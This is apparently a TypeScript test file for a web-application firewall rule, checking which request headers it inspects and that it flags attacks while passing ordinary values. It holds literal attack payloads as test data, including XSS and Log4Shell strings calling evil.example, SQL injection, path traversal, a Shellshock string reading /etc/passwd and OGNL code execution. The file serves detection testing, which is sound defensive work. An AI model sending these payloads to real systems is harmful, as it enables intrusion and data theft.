// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are literal "${...}" strings, not templates.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { type Decision, parapet, silentLogger } from "@parapet/core";
import { type ShieldOptions, type ShieldReason, shield } from "../src/index.js";
import { headerKey } from "../src/inspect/headers.js";

async function withHeaders(headers: Record<string, string>, options: Partial<ShieldOptions> = {}): Promise<Decision> {
  const client = parapet({ rules: [shield({ mode: "LIVE", ...options })], logger: silentLogger });
  try {
    return await client.protect({ method: "GET", url: "/", headers: { host: "shop.test", ...headers }, ip: "192.0.2.1" });
  } finally {
    await client.close();
  }
}

function reasonOf(decision: Decision): ShieldReason {
  assert.equal(decision.conclusion, "DENY", "expected the request to be denied");
  return decision.reason as ShieldReason;
}

describe("headers the shield reads", () => {
  it("reads the client-address headers proxies set with every detector, whatever the proxy", async () => {
    for (const name of ["X-Client-IP", "True-Client-IP", "CF-Connecting-IP", "Client-IP", "X-Originating-IP", "Forwarded"]) {
      const xss = reasonOf(await withHeaders({ [name]: "<script src=//evil.example/x.js></script>" }));
      assert.equal(xss.class, "xss", name);
      assert.equal(xss.location, `header.${name.toLowerCase()}`);
      assert.equal(reasonOf(await withHeaders({ [name]: "1' UNION SELECT password FROM users--" })).class, "sqli", name);
    }
  });

  it("reads the upload file-name header however its separators are spelled", async () => {
    for (const name of ["X-File-Name", "X-Filename", "X_Filename", "X.Filename"]) {
      assert.equal(reasonOf(await withHeaders({ [name]: "../../../../etc/cron.d/job" })).class, "traversal", name);
    }
    assert.equal(headerKey("X_File.Name"), "x-file-name");
  });

  it("lets ordinary values of those headers through", async () => {
    const decision = await withHeaders({
      "X-Forwarded-For": "203.0.113.7, 198.51.100.23",
      Forwarded: 'for=192.0.2.60;proto=http;by=203.0.113.43, for="[2001:db8:cafe::17]:4711"',
      "True-Client-IP": "2001:db8::1",
      "X-File-Name": "Annual Report (2024) - final_v2.pdf",
      From: "webmaster@example.org",
    });
    assert.equal(decision.conclusion, "ALLOW");
  });

  it("reads any other header for attacks that no header carries by accident", async () => {
    assert.equal(reasonOf(await withHeaders({ "X-Trace": "() { :; }; /bin/bash -c 'cat /etc/passwd'" })).class, "cmdi");
    assert.equal(reasonOf(await withHeaders({ "X-Whatever": "${jndi:ldap://evil.example/a}" })).class, "jndi");
    const ognl = reasonOf(
      await withHeaders({ "Content-Type": "%{(#_='multipart/form-data').(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}" }),
    );
    assert.equal(ognl.class, "code-injection");
    assert.equal(ognl.location, "header.content-type");
    assert.equal(reasonOf(await withHeaders({ "X-Debug": "java.lang.ProcessBuilder" })).class, "code-injection");
  });

  it("lets the structured values of everyday headers through", async () => {
    const decision = await withHeaders({
      "sec-ch-ua": '"Chromium";v="128", "Not;A=Brand";v="24", "Google Chrome";v="128"',
      "sec-ch-ua-mobile": "?0",
      "if-none-match": 'W/"5e15153d-120f"',
      traceparent: "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
      tracestate: "rojo=00f067aa0ba902b7,congo=t61rcWkgMzE",
      baggage: "userId=alice,serverNode=DF%2028,isProduction=false",
      prefer: "return=minimal; handling=lenient",
      "content-type": "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
      "x-amzn-trace-id": "Root=1-67891233-abcdef012345678912345678;Parent=463ac35c9f6413ad;Sampled=1",
      "x-device": "iPhone14,2; iOS 17.4.1; Scale/3.00",
      "x-note": "Quarterly report (final) - see page 3; don't share",
      "x-query": "select the best option or compare",
    });
    assert.equal(decision.conclusion, "ALLOW");
  });

  it("never reads credentials, so they cannot end up in evidence", async () => {
    const decision = await withHeaders({ Authorization: "Basic ${jndi:ldap://evil.example/a}" });
    assert.equal(decision.conclusion, "ALLOW");
  });

  it("reads only the listed headers when told not to read the others", async () => {
    const off = await withHeaders({ "X-Whatever": "${jndi:ldap://evil.example/a}" }, { inspect: { otherHeaders: false } });
    assert.equal(off.conclusion, "ALLOW");
    const listed = await withHeaders(
      { "X-Whatever": "${jndi:ldap://evil.example/a}" },
      { inspect: { otherHeaders: false, headers: ["x-whatever"] } },
    );
    assert.equal(reasonOf(listed).class, "jndi");
  });

  it("inspects a value repeated in a listed and an unlisted header with every detector", async () => {
    // The unlisted header comes first in the request; the listed one must still get the SQL detector.
    const value = "1' UNION SELECT password FROM users--";
    const reason = reasonOf(await withHeaders({ "X-Other": value, "X-Real-IP": value }));
    assert.equal(reason.class, "sqli");
    assert.equal(reason.location, "header.x-real-ip");
  });
});
